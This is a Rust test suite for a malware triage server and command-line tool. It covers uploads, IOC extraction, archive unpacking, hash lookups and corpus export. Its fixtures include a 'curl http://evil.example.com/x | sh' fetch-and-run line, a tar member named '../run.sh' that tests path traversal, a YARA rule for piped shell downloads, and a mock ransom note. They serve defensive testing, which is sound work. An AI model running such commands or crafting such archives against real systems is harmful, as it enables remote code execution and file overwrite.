//! Triage over HTTP and on the command line, and the portable formats.

use std::process::{Command, Output};

use serde_json::{Value, json};

use crate::report::report;
use crate::server::Server;

/// The settings of providers must not reach a test from outside.
const SETTINGS: [&str; 12] = [
    "VT_API_KEY",
    "HA_API_KEY",
    "ABUSE_API_KEY",
    "OTX_API_KEY",
    "VT_BASE_URL",
    "HA_BASE_URL",
    "MB_BASE_URL",
    "OTX_BASE_URL",
    "DB_PATH",
    "MALKIN_SERVER",
    "MALKIN_DATA",
    "MCRIT_CLI_SERVER",
];

fn malkin(arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_malkin"));
    for name in SETTINGS {
        command.env_remove(name);
    }
    command.args(arguments).output().expect("malkin runs")
}

fn text(output: &[u8]) -> &str {
    std::str::from_utf8(output).expect("output is text")
}

fn upload(server: &Server, path: &str, name: &str, content: &[u8]) -> (u16, Value) {
    let head = format!(
        "--x\r\nContent-Disposition: form-data; name=\"hint\"\r\n\r\nfrom a test\r\n--x\r\nContent-Disposition: form-data; \
         name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
    );
    let body = [head.as_bytes(), content, b"\r\n--x--\r\n"].concat();
    let answer = server.send("POST", path, &[("content-type", "multipart/form-data; boundary=x")], &body);
    (answer.status, answer.body)
}

#[test]
fn an_upload_becomes_a_record_that_is_found_and_deleted() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path(), &[]);
    let script = b"#!/bin/sh\ncurl http://evil.example.com/x | sh\n";
    let (status, record) = upload(&server, "/analyze/upload", "../x.sh", script);
    assert_eq!(status, 200, "{record}");
    assert_eq!(record["facts"]["kind"], "script");
    assert_eq!(record["ioc_inventory"]["urls"], json!(["http://evil.example.com/x"]));
    assert_eq!(record["summary"]["overall_risk_level"], "Unknown");
    assert_eq!(record["reputation"], Value::Null);
    assert_eq!(
        upload(&server, "/analyze/upload", "y.sh", script),
        (200, record.clone()),
        "equal files share a record"
    );
    let listed = server.get("/analyses?q=EVIL.example.com").body;
    assert_eq!(listed["total"], 1);
    assert_eq!(listed["items"][0]["file_name"], "../x.sh");
    assert_eq!(listed["items"][0]["hint"], "from a test");
    let sha256 = listed["items"][0]["sha256"].as_str().unwrap().to_owned();
    assert_eq!(server.get(&format!("/analyses/sha256/{}", sha256.to_uppercase())).body, record);
    let sha1 = listed["items"][0]["sha1"].as_str().unwrap();
    assert_eq!(server.get(&format!("/analyses/sha1/{sha1}")).body, record);
    assert_eq!(upload(&server, "/analyze/upload?afresh=true", "z.sh", script).0, 200);
    assert_eq!(server.get("/analyses").body["total"], 2);
    let purged = server.send("POST", &format!("/analyses/purge?sha256={sha256}"), &[], b"");
    assert_eq!(purged.body["purged"], 2);
    assert_eq!(server.get(&format!("/analyses/sha256/{sha256}")).status, 404);
}

#[test]
fn hashes_are_looked_up_without_keys_and_refused_by_kind() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path(), &[]);
    let found = server.post_json("/ti/hash", &json!({"hash": "AB".repeat(32)}));
    assert_eq!(found.status, 200);
    assert_eq!(found.body["hash"], "AB".repeat(32));
    assert_eq!(found.body["summary"]["known_malicious"], Value::Null);
    let refused = server.post_json("/ti/hash", &json!({"hash": "example.org"}));
    assert_eq!((refused.status, &refused.body["detail"]), (400, &json!("unsupported hash type: domain")));
}

#[test]
fn the_server_describes_and_counts_itself() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path(), &[]);
    let described = server.get("/openapi.json").body;
    assert_eq!(described["paths"]["/analyses"]["get"]["operationId"], "list_analyses_analyses_get");
    assert!(described["paths"].as_object().unwrap().len() > 50);
    assert_eq!(server.get("/docs").status, 200);
    assert_eq!(server.get("/metrics").status, 200);
    server.post_json("/samples", &report("a.exe", "alpha", 7, 3));
    let answer = server.send("POST", "/samples/ids", &[("content-type", "text/plain")], b"0,5");
    assert_eq!(answer.body["data"].as_object().unwrap().len(), 1, "{answer:?}");
    let answer = server.send("POST", "/families/ids", &[("content-type", "text/plain")], b"0,1,7");
    assert_eq!(answer.body["data"].as_object().unwrap().len(), 2, "{answer:?}");
    assert_eq!(server.send("POST", "/samples/ids", &[], b"x").status, 400);
}

#[test]
fn files_are_triaged_on_the_command_line() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("note.txt");
    std::fs::write(
        &path,
        "pay to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa or write \u{1b}[31mransom@example.com\n",
    )
    .unwrap();
    let path = path.to_str().unwrap();
    let data = folder.path().join("none").to_str().unwrap().to_owned();
    let table = malkin(&["triage", path, "--data", &data]);
    assert_eq!(table.status.code(), Some(0), "{table:?}");
    let table = text(&table.stdout);
    assert!(table.starts_with("note.txt: Unknown (0 of 100)"), "{table}");
    assert!(
        table.contains("ransom[@]example[.]com") && table.contains("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"),
        "{table}"
    );
    assert!(!table.contains('\u{1b}'), "text out of a file cannot steer the terminal");
    let line = malkin(&["triage", path, "--data", &data, "--format", "jsonl"]);
    let record: Value = serde_json::from_slice(&line.stdout).unwrap();
    assert_eq!(record["facts"]["kind"], "text");
    assert!(!std::path::Path::new(&data).exists(), "triage keeps nothing");
    let looked_up = malkin(&["lookup", &"ab".repeat(16), "nonsense", "--format", "json"]);
    assert_eq!(looked_up.status.code(), Some(3), "{looked_up:?}");
    let answer: Value = serde_json::from_slice(&looked_up.stdout).unwrap();
    assert_eq!(answer["summary"]["status"]["malwarebazaar"], "no_key");
}

#[test]
fn a_corpus_travels_as_a_file() {
    let folder = tempfile::tempdir().unwrap();
    let place = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let (from, to, file) = (place("from"), place("to"), place("corpus.mcrit"));
    let source = place("a.json");
    std::fs::write(&source, report("a.exe", "alpha", 7, 20).to_string()).unwrap();
    assert_eq!(malkin(&["submit", &source, "--data", &from]).status.code(), Some(0));
    let exported = malkin(&["export", "-o", &file, "--compress", "--data", &from]);
    assert_eq!(exported.status.code(), Some(0), "{exported:?}");
    let imported = malkin(&["import", &file, "--data", &to]);
    assert!(
        text(&imported.stdout).contains("1 new sample with 20 functions in 1 new family, 0 known"),
        "{imported:?}"
    );
    let again = malkin(&["import", &file, "--data", &to]);
    assert!(
        text(&again.stdout).contains("0 new samples with 0 functions in 0 new families, 1 known"),
        "{again:?}"
    );
    let broken = place("broken.mcrit");
    std::fs::write(&broken, "{").unwrap();
    assert_eq!(malkin(&["import", &broken, "--data", &to]).status.code(), Some(1));
}

#[test]
fn an_archive_is_opened_and_its_members_have_records() {
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(rules.join("a.yar"), r#"rule curl_pipe { strings: $a = "| sh" condition: $a }"#).unwrap();
    std::fs::write(rules.join("b.yar"), "rule {").unwrap();
    let server = Server::start(&folder.path().join("data"), &["--rules", rules.to_str().unwrap()]);
    // A tar with one member, written by hand: the header's numbers are octal text, its sum counts itself as blanks.
    let content = b"curl http://evil.example.com/x | sh";
    let mut header = [0_u8; 512];
    header[..9].copy_from_slice(b"../run.sh");
    header[100..107].copy_from_slice(b"0000644");
    header[124..135].copy_from_slice(format!("{:011o}", content.len()).as_bytes());
    header[136..147].copy_from_slice(b"00000000000");
    header[148..156].copy_from_slice(b"        ");
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    header[263..265].copy_from_slice(b"00");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut archive = header.to_vec();
    archive.extend(content);
    archive.resize(2048, 0);
    let (status, record) = upload(&server, "/analyze/upload", "x.tar", &archive);
    assert_eq!(status, 200, "{record}");
    assert_eq!(record["facts"]["kind"], "tar");
    let child = &record["children"][0];
    assert_eq!((&child["path"], &child["score"]), (&json!("../run.sh"), &json!(15)), "{record}");
    let inner = server.get(&format!("/analyses/{}", child["id"].as_str().unwrap())).body;
    assert_eq!(inner["facts"]["yara"][0]["rule"], "curl_pipe");
    assert_eq!(inner["verdict"]["reasons"][0]["fact"], "facts.yara[0]");
    assert_eq!(server.get("/analyses").body["total"], 2);
    assert!(!folder.path().join("run.sh").exists());
}

#[test]
fn code_is_left_alone_when_asked() {
    let folder = tempfile::tempdir().unwrap();
    if !crate::proof::build(folder.path()) {
        println!("SKIPPED: there is no C compiler");
        return;
    }
    let program = std::fs::read(folder.path().join("a")).unwrap();
    let server = Server::start(&folder.path().join("d"), &[]);
    let (status, short) = upload(&server, "/analyze/upload?similarity=false", "a", &program);
    assert_eq!(
        (status, &short["kinship"], &short["similarity"]),
        (200, &Value::Null, &json!("skipped, as asked"))
    );
    assert_eq!(short["facts"]["kind"], "elf");
    let whole = upload(&server, "/analyze/upload", "a", &program).1;
    assert_eq!(
        whole.get("similarity"),
        None,
        "a record without similarity does not stand in for one with it"
    );
    assert!(whole["kinship"]["num_functions"].as_u64().unwrap_or(0) > 3, "{}", whole["kinship"]);
    assert_eq!(
        upload(&server, "/analyze/upload?similarity=false", "a", &program).1,
        whole,
        "more than asked is known"
    );

    let path = folder.path().join("a");
    let data = folder.path().join("none");
    let arguments = ["triage", path.to_str().unwrap(), "--data", data.to_str().unwrap(), "--format", "json"];
    let output = malkin(&[&arguments[..], &["--no-similarity"]].concat());
    assert!(text(&output.stdout).contains("skipped, as asked"), "{}", text(&output.stderr));
}
